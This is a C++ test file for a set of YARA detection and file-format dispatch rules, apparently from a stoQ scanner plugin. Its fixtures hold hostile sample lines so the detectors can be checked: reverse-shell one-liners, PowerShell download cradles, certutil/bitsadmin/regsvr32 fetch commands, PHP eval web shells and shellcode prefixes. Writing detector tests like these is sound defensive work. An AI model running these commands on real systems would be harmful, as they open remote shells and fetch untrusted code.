// SPDX-License-Identifier: Apache-2.0
// The shipped rules: each matches what it is for, and nothing else does.
#include <gtest/gtest.h>

#include <map>

#include "dispatch.h"
#include "rule_folder.h"

#ifndef STOQ_YARA_RULES_DIR
#define STOQ_YARA_RULES_DIR "rules"
#endif

namespace stoq::plugins::yara {
namespace {

using namespace std::string_literals;

const Texts kFormats = {"mail.yar", "dispatcher.yar"};

std::shared_ptr<const RuleSet> shipped(const Texts& files) {
  static std::map<Texts, std::shared_ptr<const RuleSet>> loaded;
  auto& rules = loaded[files];
  if (!rules) {
    std::vector<std::filesystem::path> paths;
    for (const std::string& file : files) paths.push_back(STOQ_YARA_RULES_DIR "/" + file);
    auto result = RuleSet::load(paths, {});
    EXPECT_EQ(result.problems, Texts());
    rules = result.rules;
  }
  return rules;
}

// `data` behind `offset` zeros.
std::string at(std::size_t offset, const std::string& data) {
  return std::string(offset, '\0') + data;
}

// `data` put over `base`, which grows where needed.
std::string put(std::string base, std::size_t offset, const std::string& data) {
  if (base.size() < offset + data.size()) base.resize(offset + data.size());
  return base.replace(offset, data.size(), data);
}

std::string wide(const std::string& text) {
  std::string out;
  for (char c : text) out += {c, '\0'};
  return out;
}

// Put together here, so that no scanner takes this source for what it tests.
const std::string kDosText = "This program"s + " cannot be run in DOS mode";

std::string pe(const std::string& body = "") {
  auto out = put("MZ"s, 0x3C, "\x80\0\0\0"s);
  out = put(out, 0x4E, kDosText + ".\r\r\n$");
  return put(out, 0x80, "PE\0\0"s) + body;
}

std::string elf(const std::string& body) {
  return at(0,
            "\x7F"
            "ELF\2\1\1"s) +
         std::string(64, '\0') + body;
}

struct Case {
  std::string rule;
  std::string content;
  std::string plugin = "decompress";  // that a dispatch rule names
};

const std::string kZipEnd = "PK\5\6"s + std::string(18, '\0');
const std::string kZipEntry = "PK\1\2\x14\0\x14\0"s + std::string(40, '\0');

std::vector<Case> archives() {
  auto old_cpio = [](const std::string& magic, const std::string& name_size) {
    return put(put(put(""s, 0, magic), 20, name_size), 26, "a.txt\0"s);
  };
  auto installer = [](const std::string& first) {
    const auto head = put(at(30, "\x09"), 48, "\1");
    return put("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + head.substr(8), 1104,
               first + "\x10\x0C\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"s);
  };
  auto sector = [](std::string head) {
    head.resize(8192);
    return head;
  };
  return {
      {"mail_message", "From: a@b\r\nSubject: x\r\n\r\nhi", "smtp"},
      {"mail_message",
       "\xEF\xBB\xBF\r\n\nMIME-Version (x) : 1.0\nContent-Type: multipart/related\n", "smtp"},
      {"mail_message", "From a@b Tue Nov 24 21:18:52 2026\nX: y\nFrom: a@b\n", "smtp"},
      {"mail_message", "220 mx ESMTP\r\nEHLO x\r\nDATA\r\nfrom: a@b\r\n", "smtp"},
      {"mail_message", "EHLO x\nDATA\nTo: c\nsubject : y\n", "smtp"},
      {"tnef", "\x78\x9F\x3E\x22\1\0"s, "tnef"},
      {"pdf", "%PDF-1.7\n", "pdf"},
      {"pdf", at(1000, "%PDF-1.7\n"), "pdf"},
      {"zip", "PK\3\4 anything"},
      {"zip", kZipEnd},
      {"zip", "PK\7\10PK\3\4"},
      {"zip", "PK00PK\3\4"},
      {"zip_appended", pe("PK\3\4") + kZipEntry + kZipEnd},
      {"zip_appended", "#!/usr/bin/env python3\nPK\3\4" + kZipEntry + kZipEnd + "comment"},
      {"seven_zip", "7z\xBC\xAF\x27\x1C\0\4"s},
      {"rar", "Rar!\x1A\7\0"s},
      {"rar", "Rar!\x1A\7\1\0"s},
      {"archive_in_other_file", pe("7z\xBC\xAF\x27\x1C\0\4"s)},
      {"archive_in_other_file", pe("Rar!\x1A\7\0"s)},
      {"archive_in_other_file", elf("Rar!\x1A\7\1\0"s)},
      {"archive_in_other_file", "text 7z\xBC\xAF\x27\x1C\0"s},
      {"archive_in_other_file", "GIF89a MSCF\0\0\0\0\xFF\1\0\0\0\0\0\0\x2C\0\0\0\0\0\0\0\3\1"s},
      {"tar", at(257,
                 "ustar\0"
                 "00"s)},
      {"tar", at(257, "ustar  \0"s)},
      {"cpio", "070701000"},
      {"cpio", "070702000"},
      {"cpio", "070707000"},
      {"cpio", old_cpio("\xC7\x71", "\6\0"s)},
      {"cpio", old_cpio("\x71\xC7", "\0\6"s)},
      {"ar", "!<arch>\ndebian-binary   "},
      {"rpm", "\xED\xAB\xEE\xDB\3\0"s},
      {"cab", "MSCF\0\0\0\0"s},
      {"iso9660", at(32768, "\1CD001\1")},
      {"lha", "\x20\x20-lh5-"},
      {"lha", "\x20\x20-lzs-"},
      {"xar", "xar!\0\x1C\0\1"s},
      {"warc", "WARC/1.0\r\n"},
      {"arj", "\x60\xEA\x2A\0\x22\x0B\1\2\x10\0\2"s, "sevenzip"},
      {"ms_compress", "SZDD\x88\xF0\x27\x33\x41"},
      {"ms_compress", "SZ \x88\xF0\x27\x33\xD1"},
      {"ms_compress", "KWAJ\x88\xF0\x27\xD1"},
      {"wim", "MSWIM\0\0\0"s, "sevenzip"},
      {"html_help", "ITSF\3\0\0\0"s, "sevenzip"},
      {"html_help", "ITOLITLS\1\0\0\0"s, "sevenzip"},
      {"windows_installer", installer("\x84"), "sevenzip"},
      {"windows_installer", installer("\x86"), "sevenzip"},
      {"windows_installer", installer("\x82"), "sevenzip"},
      {"nsis", pe("\xEF\xBE\xAD\xDENullsoftInst"), "sevenzip"},
      {"squashfs", "hsqs", "sevenzip"},
      {"squashfs", at(16, "Compressed ROMFS"), "sevenzip"},
      {"udf", at(0x8801, "NSR02" + std::string(10'000, '\0')), "sevenzip"},
      {"udf", at(0x9001, "NSR03" + std::string(10'000, '\0')), "sevenzip"},
      {"virtual_disk", "conectix\0\0"s, "sevenzip"},
      {"virtual_disk", at(1536, "conectix") + std::string(504, '\0'), "sevenzip"},
      {"virtual_disk", "vhdxfile", "sevenzip"},
      {"virtual_disk", "KDMV", "sevenzip"},
      {"virtual_disk", "QFI\xFB\0\0\0\3"s, "sevenzip"},
      {"virtual_disk", at(64, "\x7F\x10\xDA\xBE"), "sevenzip"},
      {"apple_disk_image", at(1536, "koly\0\0\0\4\0\0\2\0"s) + std::string(500, '\0'), "sevenzip"},
      {"file_system", sector(put(put("\xEB"s, 54, "FAT12   "), 510, "\x55\xAA")), "sevenzip"},
      {"file_system", sector(put(at(3, "NTFS    "), 510, "\x55\xAA")), "sevenzip"},
      {"file_system", sector(put(at(1024, "\1\0\0\0\1"s), 1080, "\x53\xEF")), "sevenzip"},
      {"file_system", sector(at(1024, "H+\0\4"s)), "sevenzip"},
      {"file_system", sector(at(32, "NXSB\0"s)), "sevenzip"},
      {"partitioned_disk", sector(put(at(446, "\x80\1\1\0\6\1\1\0\1\0\0\0\7"s), 510, "\x55\xAA")),
       "sevenzip"},
      {"partitioned_disk",
       sector(at(510,
                 "\x55\xAA"
                 "EFI PART")),
       "sevenzip"},
      {"ace", at(7, "**ACE**")},
      {"gzip", "\x1F\x8B\x08\0"s},
      {"bzip2", "BZh91AY&SY"},
      {"bzip2", "BZh1\x17\x72\x45\x38\x50\x90"},
      {"xz",
       "\xFD"
       "7zXZ\0"s},
      {"lzma", "\x5D\0\0\x80\0\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\0 text"s},
      {"lzma", "\x5D\0\0\x0C\0\7\0\0\0\0\0\0\0\0 text"s},
      {"zstd", "\x28\xB5\x2F\xFD"},
      {"zstd", "\x5E\x2A\x4D\x18"},
      {"lz4", "\x04\x22\x4D\x18"},
      {"lz4", "\x02\x21\x4C\x18"},
      {"lzip", "LZIP\1\x0C"},
      {"unix_compress", "\x1F\x9D\x90"},
      {"uuencode", "begin 644 a b.txt\nM"},
      {"uuencode", "begin-base64 0755 x\r\n"},
      {"upx", pe("UPX!"), "upx"},
      {"upx", pe("UPX0\0\0\0\0"s), "upx"},
      {"upx", elf("UPX!"), "upx"},
      {"upx", elf("PROT_EXEC|PROT_WRITE failed."), "upx"},
  };
}

std::vector<Case> findings() {
  const std::string macro = "Attribute VB_Name = \"m\"\r\nSub ";
  const std::string lnk = "L\0\0\0\1\x14\2\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"s;
  const std::string base64(48, 'Q');
  std::string dos_xor = kDosText;
  for (auto& c : dos_xor) c = static_cast<char>(c ^ 0x5C);
  return {
      {"office_macro_auto_run", macro + "AutoOpen()\r\nShell (\"calc\")\r\nEnd Sub"},
      {"office_macro_auto_run", "\0Attribut\0e VB_Nam\0e"s + "\r\nDocument_Open CreateObject"},
      {"office_dde_command", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""},
      {"rtf_embedded_object", "{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}"},
      {"rtf_embedded_object", "{\\rt{\\object{\\*\\objdata d0cf11E0a1b11ae1}}}"},
      {"rtf_equation_object", "{\\rtf1{\\object{\\*\\objclass Equation.3}}}"},
      {"rtf_equation_object", "{\\rtf1 4571756174696F6E2E33 }"},
      {"pdf_javascript_on_open",
       "%PDF-1.4\n<</OpenAction 1 0 R>>\n<</S/JavaScript/JS(app.alert(1))>>"},
      {"pdf_javascript_on_open", "%PDF-1.4\n<</AA<</O 1 0 R>>>>\n<</JS 2 0 R>>"},
      {"pdf_launch_action", "%PDF-1.4\n<</S /Launch /F (x)>>"},
      {"powershell_encoded_command", "powershell.exe -nop -w hidden -enc " + base64},
      {"powershell_encoded_command", wide("PowerShell -EncodedCommand " + base64)},
      {"powershell_download_cradle",
       "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')"},
      {"powershell_download_cradle", "Invoke-WebRequest https://example.com/a | Invoke-Expression"},
      {"script_eval_of_decoded_text", "eval(unescape('%61'))"},
      {"script_eval_of_decoded_text", "document.write( atob('YQ=='))"},
      {"script_eval_of_decoded_text", "ExecuteGlobal Chr(72) & Chr(73)"},
      {"script_host_dropper",
       "new ActiveXObject('MSXML2.XMLHTTP'); 'ADODB.Stream'; s.SaveToFile(f); 'WScript.Shell'"},
      {"html_smuggling",
       "<script>var d = atob(x); var b = new Blob([d]); navigator.msSaveOrOpenBlob(b)</script>"},
      {"html_smuggling",
       "<script>new Blob([new Uint8Array(n)]);URL.createObjectURL(b);a.download='x';a.click()"},
      {"reverse_shell_command", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"},
      {"reverse_shell_command", "nc 192.0.2.1 443 -e /bin/sh"},
      {"reverse_shell_command", "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 443"},
      {"php_eval_of_request", "<?php @eval($_POST['a']); ?>"},
      {"php_eval_of_request", "<?php eval(gzinflate(base64_decode('x'))); ?>"},
      {"system_tool_download", "certutil.exe -urlcache -split -f http://example.com/a a.exe"},
      {"system_tool_download", "bitsadmin /transfer j /download http://example.com/a c:\\a"},
      {"system_tool_download", "regsvr32 /s /n /u /i:http://example.com/a.sct scrobj.dll"},
      {"system_tool_download", wide("mshta.exe \"http://example.com/a.hta\"")},
      {"shortcut_runs_interpreter", lnk + wide("..\\powershell.exe")},
      {"shortcut_runs_interpreter", lnk + wide("..\\System32\\cmd.exe") + wide(" /c start")},
      {"shortcut_runs_interpreter", lnk + wide("cmd /k dir")},
      {"pe_packed_by_upx", pe("UPX0\0\0\0\0"s + "UPX1\0\0\0\0"s)},
      {"pe_injects_into_process",
       pe("\0OpenProcess\0VirtualAllocEx\0WriteProcessMemory\0CreateRemoteThread\0"s)},
      {"elf_packed_by_upx", elf("UPX! /proc/self/exe")},
      {"elf_device_bot", elf("/dev/watchdog\0/bin/busybox\0/proc/net/tcp"s)},
      {"pe_inside_other_file", "some text\n" + pe()},
      {"pe_as_base64", "payload = \"TVqQAAMAAAAEAAAA//8AALgAAA\""},
      {"pe_as_base64", "IVRoaXMgcHJvZ3JhbSBjYW5ub3QgYmUgcnVuIGluIERPUyBtb2RlLg0NCiQ="},
      {"pe_as_hex", "0x4D5A90000300000004000000FFFF0000B8"},
      {"pe_under_xor", "...." + dos_xor},
      {"shellcode_finds_itself", "\xD9\xEE\xD9\x74\x24\xF4\x5B\x81"},
      {"shellcode_finds_itself", "\xFC\x31\xD2\x64\x8B\x52\x30\x8B\x52\x0C\xC1\xCF\x0D\x01\xC7"},
      {"eicar_test_file",
       "X5O!P%@AP[4\\PZX54(P^)7CC)7}"s + "$EICAR-STANDARD-ANTI" + "VIRUS-TEST-FILE!$H+H*"},
  };
}

void each_matches_itself_only(const Texts& files, const std::vector<Case>& cases) {
  auto rules = shipped(files);
  std::map<std::string, int> tested;
  for (const auto& [rule, content, plugin] : cases) {
    EXPECT_EQ(matching(rules, content), Texts{rule});
    ++tested[rule];
  }
  EXPECT_EQ(tested.size(), rules->rule_count());
}

TEST(Shipped, EachDispatchRuleMatchesItsFormatOnly) {
  each_matches_itself_only(kFormats, archives());
}

TEST(Shipped, EachWorkerRuleMatchesItsSubjectOnly) {
  each_matches_itself_only({"stoq.yar"}, findings());
}

TEST(Shipped, DispatchRulesNameTheirPlugin) {
  Scanner scanner(shipped(kFormats));
  for (const auto& [rule, content, plugin] : archives()) {
    auto result = scanner.scan(bytes(content));
    auto found = dispatch(result.matches);
    ASSERT_EQ(found.plugins.size(), 1U) << rule;
    EXPECT_EQ(found.plugins[0].first, plugin);
    EXPECT_EQ(found.save, std::nullopt);
    EXPECT_EQ(found.problems, Texts());
  }
}

struct Inspected {
  std::string rule, plugin, content;
};

std::vector<Inspected> inspected() {
  return {
      {"image", "exif", "\x89PNG\r\n\x1A\n"},
      {"image", "exif", "\xFF\xD8\xFF\xE0"},
      {"image", "exif", "GIF89a"},
      {"image", "exif", "II*\0"s},
      {"image", "exif", "MM\0*"s},
      {"image", "exif", "RIFF\x10\0\0\0WEBPVP8 "s},
      {"document", "exif", "%PDF-1.7 /Encrypt /R 4"},
      {"document", "exif", "%PDF-1.7 /R 6"},
      {"document", "exif", "%PDF-1.7"},
      {"document", "exif", "{\\rtf1"},
      {"document", "exif", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"},
      {"office_open_xml", "exif", "PK\3\4"s + std::string(26, '\0') + "[Content_Types].xml"},
      {"pe", "exif", pe()},
      {"elf", "exif", elf("#!")},
      {"script", "iocextract", "#!/bin/sh\n"},
      {"script", "iocextract", "@ECHO OFF\r\n"},
      {"script", "iocextract", "$x = 1; PowerShell -enc"},
      {"script", "iocextract", "Set a = CreateObject(\"WScript.Shell\")"},
      {"mail", "iocextract", "Return-Path: <a@b>\nFrom: a\n"},
      {"mail", "iocextract", "Received: by x\r\nSubject: hi\r\n"},
  };
}

TEST(Shipped, APdfThatCostsSecondsToDecryptIsNotForExif) {
  EXPECT_EQ(matching(shipped({"inspect.yar"}), "%PDF-1.7 <</R 6>> /Encrypt 5 0 R"), Texts());
}

TEST(Shipped, EachRuleOfInspectionMatchesItsSubjectOnlyAndNamesItsPlugin) {
  const auto rules = shipped({"inspect.yar"});
  Scanner scanner(rules);
  std::map<std::string, int> tested;
  for (const auto& [rule, plugin, content] : inspected()) {
    EXPECT_EQ(matching(rules, content), Texts{rule});
    auto found = dispatch(scanner.scan(bytes(content)).matches);
    ASSERT_EQ(found.plugins.size(), 1U) << rule;
    EXPECT_EQ(found.plugins[0].first, plugin);
    EXPECT_EQ(found.problems, Texts());
    ++tested[rule];
  }
  EXPECT_EQ(tested.size(), rules->rule_count());
}

TEST(Shipped, NearMissesAreNotInspected) {
  for (const auto& content :
       Texts{"", "text", "From: somebody, in a letter\n", std::string(5000, ' ') + "powershell",
             "MZ and text", "PK\3\4"s + std::string(4000, '\0') + "[Content_Types].xml",
             "RIFF....WAVE",
             "\x7F"
             "ELV",
             "\xD0\xCF text", "Subject: one line only"})
    EXPECT_EQ(matching(shipped({"inspect.yar"}), content), Texts()) << content.substr(0, 40);
}

TEST(Shipped, EveryWorkerRuleHasTagsAndADescription) {
  Scanner scanner(shipped({"stoq.yar"}));
  for (const auto& [rule, content, plugin] : findings()) {
    auto result = scanner.scan(bytes(content));
    ASSERT_EQ(result.matches.size(), 1U) << rule;
    EXPECT_FALSE(result.matches[0].tags.empty()) << rule;
    EXPECT_NE(result.matches[0].meta("description"), nullptr) << rule;
  }
}

TEST(Shipped, NearMissesAreNotDispatched) {
  for (const auto& content : Texts{"",
                                   "P",
                                   "PK",
                                   "PK and text",
                                   "BZh9 text",
                                   "\x1F\x8B\x09\0"s,
                                   "\x1F\x8B\x08\xE0",
                                   "MSCF text",
                                   "xar! text",
                                   "LZIP text",
                                   "WARC text",
                                   "begin the day\n",
                                   "From: somebody, in a letter\n",
                                   "Date: today\nand so on\n",
                                   std::string(1100, ' ') + "%PDF-1.7",
                                   "text\nbegin 644 a\n",
                                   "7z text",
                                   "Rar! text",
                                   "-lh5-",
                                   "UPX!",
                                   "\x60\xEA text that is long",
                                   "\x1F\x9D\xFF",
                                   pe(),
                                   elf("text"),
                                   "text " + kZipEntry,
                                   "text " + kZipEnd,
                                   "\xC7\x71 text that is long enough for a header",
                                   pe("PK\3\4") + kZipEntry + kZipEnd + std::string(70000, 'x')}) {
    EXPECT_EQ(matching(shipped(kFormats), content), Texts()) << content.substr(0, 40);
  }
}

TEST(Shipped, OrdinaryContentHasNoFindings) {
  for (const auto& content :
       Texts{"", "ordinary text about powershell, eval and Shell",
             pe("OpenProcess\0VirtualAlloc\0WriteProcessMemory\0"s), pe("UPX0"),
             elf("/bin/busybox"), "%PDF-1.4\n<</Type/Catalog/OpenAction 1 0 R>>",
             "%PDF-1.4\n/JavaScript", "{\\rtf1 text}", "{\\rtf1{\\object{\\*\\objdata 0105}}}",
             kDosText, "Attribute VB_Name = \"m\"\r\nSub AutoOpen()\r\nMsgBox 1\r\nEnd Sub",
             "<?php echo base64_decode($x); ?>",
             "powershell -ExecutionPolicy Bypass -File "
             "C:\\scripts\\a_script_with_a_rather_long_name_indeed.ps1",
             "<script>x = JSON.parse(atob(y)); new Blob([x]);</script>",
             "certutil -hashfile a SHA256", "L\0\0\0\1\x14\2\0"s + wide("..\\notepad.exe"),
             "bash -i", "Invoke-WebRequest https://example.com -OutFile a",
             "EICAR-STANDARD-ANTIVIRUS-TEST-FILE"}) {
    EXPECT_EQ(matching(shipped({"stoq.yar"}), content), Texts()) << content.substr(0, 40);
  }
}

}  // namespace
}  // namespace stoq::plugins::yara
